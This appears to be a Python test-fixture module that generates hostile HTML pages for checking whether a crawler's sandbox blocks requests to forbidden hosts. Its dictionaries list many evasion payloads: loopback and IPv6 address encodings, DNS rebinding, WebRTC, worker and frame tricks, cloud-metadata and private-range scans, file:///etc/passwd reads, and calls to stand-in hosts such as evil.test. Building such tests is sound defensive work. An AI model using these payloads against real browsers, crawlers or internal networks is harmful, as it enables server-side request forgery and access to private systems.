"""Pages whose scripts try to reach what the crawl may not contact: name -> (body of the page, its headers).

``TARGET`` stands for a forbidden server (host:port), ``PORT`` for its port, ``PUBLIC`` for the allowed one.
"""

from __future__ import annotations

#: Run as scripts.
SCRIPTS = {
    "fetch": "fetch('http://TARGET/')",
    "fetch no-cors": "fetch('http://TARGET/', {mode: 'no-cors'})",
    "fetch keepalive": "fetch('http://TARGET/', {keepalive: true, mode: 'no-cors'})",
    "fetch https": "fetch('https://TARGET/', {mode: 'no-cors'})",
    "fetch with target address space": "fetch('http://TARGET/', {mode: 'no-cors', targetAddressSpace: 'loopback'})",
    "xhr": "x = new XMLHttpRequest(); x.open('GET', 'http://TARGET/'); x.send()",
    "localhost": "fetch('http://localhost:PORT/', {mode: 'no-cors'})",
    "number": "fetch('http://2130706433:PORT/', {mode: 'no-cors'})",
    "unspecified": "fetch('http://0.0.0.0:PORT/', {mode: 'no-cors'})",
    "ipv6": "fetch('http://[::1]:PORT/', {mode: 'no-cors'})",
    "mapped": "fetch('http://[::ffff:127.0.0.1]:PORT/', {mode: 'no-cors'})",
    "compatible": "fetch('http://[::7f00:1]:PORT/', {mode: 'no-cors'})",
    "nat64": "fetch('http://[64:ff9b::7f00:1]:PORT/', {mode: 'no-cors'})",
    "6to4": "fetch('http://[2002:7f00:1::]:PORT/', {mode: 'no-cors'})",
    "blob page": "location = URL.createObjectURL(new Blob(['<title>tried</title><script>fetch(`http://TARGET/`)'"
    "+ '<\\/script>'], {type: 'text/html'}))",
    "blob frame": "f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["
    "'<script>new WebSocket(`ws://TARGET/`)<\\/script>'], {type: 'text/html'})); document.body.append(f)",
    "data frame": "f = document.createElement('iframe'); f.src = 'data:text/html,<script>fetch(`http://TARGET/`,"
    "{mode: `no-cors`})<\\/script>'; document.body.append(f)",
    "blank frame": "f = document.createElement('iframe'); document.body.append(f);"
    "f.contentWindow.fetch('http://TARGET/', {mode: 'no-cors'})",
    "worker in a worker": "new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob(["
    '`fetch("http://TARGET/", {mode: "no-cors"})`])))\'])))',
    "on leaving": "for (const e of ['pagehide', 'unload', 'beforeunload', 'visibilitychange']) addEventListener(e,"
    "() => { navigator.sendBeacon('http://TARGET/', e); fetch('http://TARGET/', {mode: 'no-cors', keepalive: true}) })",
    "name": "fetch('http://evil.test:PORT/', {mode: 'no-cors'})",
    "name of ipv6": "fetch('http://evil6.test:PORT/', {mode: 'no-cors'})",
    "alias": "fetch('http://alias.test:PORT/', {mode: 'no-cors'})",
    "rebinding": "fetch('http://rebinding.test:PORT/close', {mode: 'no-cors'}).finally("
    "() => fetch('http://rebinding.test:PORT/2', {mode: 'no-cors'}))",
    "rebinding of the page": "fetch('http://rebinding.test:PORT/close', {mode: 'no-cors'}).finally("
    "() => { location = 'http://rebinding.test:PORT/2' })",
    "redirect": "fetch('/redirect', {mode: 'no-cors'})",
    "redirect of a script": "s = document.createElement('script'); s.src = '/redirect'; document.head.append(s)",
    "script": "s = document.createElement('script'); s.src = 'http://TARGET/'; document.head.append(s)",
    "module": "import('http://TARGET/x.js').catch(() => 0)",
    "image": "new Image().src = 'http://TARGET/'",
    "beacon": "navigator.sendBeacon('http://TARGET/', 'x')",
    "events": "new EventSource('http://TARGET/')",
    "websocket": "new WebSocket('ws://TARGET/')",
    "secure websocket": "new WebSocket('wss://TARGET/')",
    "websocket by name": "new WebSocket('ws://evil.test:PORT/')",
    "webrtc stun": "rtc([{urls: 'stun:TARGET'}])",
    "webrtc stun by name": "rtc([{urls: 'stun:evil.test:PORT'}])",
    "webrtc turn udp": "rtc([{urls: 'turn:TARGET?transport=udp', username: 'u', credential: 'p'}])",
    "webrtc turn tcp": "rtc([{urls: 'turn:TARGET?transport=tcp', username: 'u', credential: 'p'}])",
    "webrtc peer": "rtc([], 'candidate:1 1 udp 2122260223 127.0.0.1 PORT typ host')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://TARGET/', {mode: 'no-cors'})\"])))",
    "worker imports": "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://TARGET/')\"])))",
    "worker websocket": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://TARGET/')\"])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://TARGET/', {mode: 'no-cors'})\"]"
    ")))",
    "location": "location = 'http://TARGET/'",
    "location replaced": "location.replace('http://TARGET/')",
    "location file": "location = 'file:///etc/passwd'",
    "pop-up": "window.open('http://TARGET/')",
    "frame": "add('<iframe src=http://TARGET/></iframe>')",
    "frame in a frame": "add('<iframe srcdoc=\"<iframe src=http://TARGET/></iframe>\"></iframe>')",
    "frame redirected": "add('<iframe src=/redirect></iframe>')",
    "frame of a file": "add('<iframe src=file:///etc/passwd></iframe>')",
    "sandboxed frame": "add('<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket(`ws://TARGET/`);"
    "fetch(`http://TARGET/`, {mode: `no-cors`})<\\/script>\"></iframe>')",
    "form": "add('<form action=http://TARGET/></form>'); document.forms[0].submit()",
    "ping": "add('<a href=#x ping=http://TARGET/>x</a>'); document.querySelector('a').click()",
    "download": "add('<a href=http://TARGET/x download>x</a>'); document.querySelector('a').click()",
    "file read": "fetch('file:///etc/passwd').then(r => r.text()).then(t => add(t))",
    "local network scan": "for (const h of ['10.0.0.1', '192.168.1.1', '169.254.169.254', '172.16.0.1', '100.64.0.1'])"
    "fetch(`http://${h}/`, {mode: 'no-cors'})",
    "scheme relative": "new Image().src='//127.0.0.1:PORT/x'",
    "teredo": "fetch('http://[2001:0:7f00:1::80ff:fffe]:PORT/',{mode:'no-cors'})",
    "module worker import": "new Worker(URL.createObjectURL(new Blob(['import \"http://TARGET/x.js\"'],{t"
    "ype:'text/javascript'})),{type:'module'})",
    "nested data worker": 'new Worker(\'data:text/javascript,fetch("http://TARGET/",{mode:"no-cors"});'
    'new WebSocket("ws://TARGET/")\')',
    "javascript frame": "f=document.createElement('iframe');f.src=\"javascript:fetch('http://TARGET/"
    "',{mode:'no-cors'});new WebSocket('ws://TARGET/')\";document.body.append(f)",
    "navigation api": "window.navigation&&navigation.navigate('http://TARGET/')",
    "streaming upload": "fetch('http://TARGET/',{method:'POST',duplex:'half',mode:'no-cors',body:ne"
    "w ReadableStream({start(c){c.enqueue(new Uint8Array([1]));c.close()}})}).c"
    "atch(()=>0)",
    "webrtc relay only": "p=new RTCPeerConnection({iceServers:[{urls:['turn:TARGET?transport=udp','t"
    "urn:TARGET?transport=tcp','turns:TARGET'],username:'u',credential:'p'}],ic"
    "eTransportPolicy:'relay'});p.createDataChannel('x');p.createOffer().then(o"
    "=>p.setLocalDescription(o))",
    "webrtc in a frame": "add('<iframe srcdoc=\"<script>p=new RTCPeerConnection({iceServers:[{urls:`s"
    "tun:TARGET`}]});p.createDataChannel(`x`);p.createOffer().then(o=>p.setLoca"
    "lDescription(o))<\\/script>\"></iframe>')",
    "filters and masks": "document.body.style.filter='url(http://TARGET/f.svg#f)';document.body.styl"
    "e.maskImage='url(http://TARGET/m)';document.body.style.clipPath='url(http:"
    "//TARGET/c.svg#c)'",
}

#: Run as scripts of https pages, which may do more.
SECURE = {
    "webtransport": "t = new WebTransport('https://TARGET/'); t.ready.catch(() => 0); t.closed.catch(() => 0)",
    "worker webtransport": "new Worker(URL.createObjectURL(new Blob([\"new WebTransport('https://TARGET/')\"])))",
    "service worker": "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js').catch(() => 0)",
    "fetch by https": "fetch('https://TARGET/', {mode: 'no-cors'})",
    "local network": "fetch('http://TARGET/', {mode: 'no-cors', targetAddressSpace: 'loopback'})",
    "wss": "new WebSocket('wss://TARGET/')",
    "direct socket": "if (window.TCPSocket) new TCPSocket('127.0.0.1', PORT).opened.catch(() => 0)",
    "audio worklet": "new AudioContext().audioWorklet.addModule('https://TARGET/x.js').catch(() => 0)",
    "webrtc of https": "rtc([{urls: ['stun:TARGET', 'turns:TARGET']}])",
}

#: Written as HTML.
MARKUP = {
    "stylesheet": "<link rel=stylesheet href=http://TARGET/>",
    "stylesheet imported": "<style>@import 'http://TARGET/x.css';</style>",
    "font": "<style>@font-face {font-family: f; src: url(http://TARGET/f.woff2)} b {font-family: f}</style><b>x</b>",
    "background": "<style>body {background: url(http://TARGET/x.png)}</style>",
    "preload": "<link rel=preload as=fetch crossorigin href=http://TARGET/>",
    "preload of a module": "<link rel=modulepreload href=http://TARGET/x.js>",
    "prefetch": "<link rel=prefetch href=http://TARGET/>",
    "prerender": "<link rel=prerender href=http://TARGET/>",
    "speculation": "<script type=speculationrules>"
    '{"prefetch": [{"urls": ["http://TARGET/"], "eagerness": "immediate"}],'
    '"prerender": [{"urls": ["http://TARGET/2"], "eagerness": "immediate"}]}</script>',
    "preconnect": "<link rel=preconnect href=http://TARGET>",
    "dns-prefetch": "<link rel=dns-prefetch href=http://evil.test:PORT>",
    "manifest": "<link rel=manifest href=http://TARGET/m.json>",
    "icon": "<link rel=icon href=http://TARGET/i.png>",
    "object": "<object data=http://TARGET/ type=text/html></object>",
    "embed": "<embed src=http://TARGET/ type=text/html>",
    "video": "<video src=http://TARGET/ autoplay muted></video>",
    "track": "<video><track src=http://TARGET/ default></video>",
    "svg": "<svg xmlns:xlink=http://www.w3.org/1999/xlink><use xlink:href=http://TARGET/#a />"
    "<image href=http://TARGET/ /></svg>",
    "import map": '<script type=importmap>{"imports": {"x": "http://TARGET/x.js"}}</script>'
    "<script type=module>import 'x'</script>",
    "source set": "<picture><source srcset='http://TARGET/a 1x'><img srcset='http://TARGET/b 2x'></picture>",
    "refresh": "<meta http-equiv=refresh content='0; url=http://TARGET/'>",
    "base": "<base href=http://TARGET/><script src=x.js></script>",
    "svg feimage": "<svg><filter id=f><feImage href=http://TARGET/ /></filter><rect width=9 he"
    "ight=9 filter=url(#f) /></svg>",
    "svg script": "<svg><script href=http://TARGET/x.js></script><a href=http://TARGET/><text>x</text></a></svg>",
    "svg as image": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><imag"
    "e href='http://TARGET/'/></svg>\">",
    "xml stylesheet frame": '<iframe src=\'data:text/xml,<?xml-stylesheet href="http://TARGET/x.xsl" typ'
    'e="text/xsl"?><a/>\'></iframe>',
    "input image": "<input type=image src=http://TARGET/><body background=http://TARGET/b><tab"
    "le background=http://TARGET/t><td background=http://TARGET/d>",
    "speculation document rules": '<script type=speculationrules>{"prerender":[{"source":"document","eagernes'
    's":"immediate"}],"prefetch":[{"source":"document","eagerness":"immediate"}'
    "]}</script><a href=http://TARGET/>x</a><a href=/redirect>y</a>",
    "shadow root": "<div><template shadowrootmode=open><link rel=stylesheet href=http://TARGET"
    "/><img src=http://TARGET/><script>new WebSocket('ws://TARGET/')</script></"
    "template></div>",
}

#: Headers of the page make the browser send something.
HEADERS = {
    "policy reports": {
        "Content-Security-Policy": "script-src 'unsafe-inline'; img-src 'none'; report-uri http://TARGET/"
    },
    "reporting": {
        "Reporting-Endpoints": 'default="http://TARGET/r"',
        "Content-Security-Policy": "script-src 'unsafe-inline'; img-src 'none'; report-to default",
    },
    "link header": {"Link": "<http://TARGET/x.css>; rel=preload; as=style, <http://TARGET>; rel=preconnect"},
    "network errors": {
        "Report-To": '{"group": "g", "max_age": 999, "endpoints": [{"url": "http://TARGET/"}]}',
        "NEL": '{"report_to": "g", "max_age": 999, "success_fraction": 1.0}',
    },
    "transport security": {"Strict-Transport-Security": "max-age=9999; includeSubDomains; preload"},
    "alternative": {"Alt-Svc": 'h3="TARGET"; ma=999, h2="TARGET"; ma=999', "Refresh": "9; url=http://TARGET/"},
    "refresh header": {"Refresh": "0; url=http://TARGET/"},
}

#: Helpers of the scripts.
PRELUDE = """<script>
const add = html => document.body.insertAdjacentHTML('beforeend', html);
async function rtc(servers, candidate) {
    const one = new RTCPeerConnection({iceServers: servers});
    one.createDataChannel('x');
    await one.setLocalDescription(await one.createOffer());
    if (candidate) {
        const other = new RTCPeerConnection();
        await other.setRemoteDescription(one.localDescription);
        await other.setLocalDescription(await other.createAnswer());
        await one.setRemoteDescription(other.localDescription);
        await one.addIceCandidate({candidate: candidate, sdpMid: '0', sdpMLineIndex: 0});
    }
}
</script>"""


def hostile_pages(target: str, port: int) -> dict[str, tuple[str, dict[str, str]]]:
    """Name of the attempt -> (HTML, headers)."""
    pages = {name: (_page(script), {}) for name, script in (SCRIPTS | SECURE).items()}
    pages |= {name: (_page("", markup), {}) for name, markup in MARKUP.items()}
    pages |= {name: (_page("add('<img src=/x.png>')"), headers) for name, headers in HEADERS.items()}

    def aimed(text: str) -> str:
        return text.replace("TARGET", target).replace("PORT", str(port))

    return {
        name: (aimed(html), {key: aimed(value) for key, value in headers.items()})
        for name, (html, headers) in pages.items()
    }


def _page(script: str, markup: str = "") -> str:
    run = f"try {{ {script} }} catch (error) {{ document.body.append('' + error) }}"
    return (
        f"<!doctype html><title>not tried</title><body>{PRELUDE}{markup}"
        f"<script>document.title = 'tried'; {run}</script></body>"
    )
